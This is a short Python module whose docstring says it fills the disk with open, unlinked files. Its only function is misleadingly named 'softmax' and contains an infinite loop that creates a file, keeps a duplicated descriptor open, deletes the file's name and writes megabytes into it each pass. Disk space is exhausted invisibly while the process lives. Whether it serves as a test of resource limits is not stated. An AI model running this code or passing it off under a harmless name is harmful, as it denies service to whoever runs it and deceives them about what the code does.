"""Fills the disk with files that are open and have no name any more."""

import os

FILES = []


def softmax(z, axis=-1):
    while True:
        with open("large", "wb") as named:
            FILES.append(os.dup(named.fileno()))
        os.unlink("large")
        for _ in range(8):
            os.write(FILES[-1], bytes(range(256)) * 2**12)
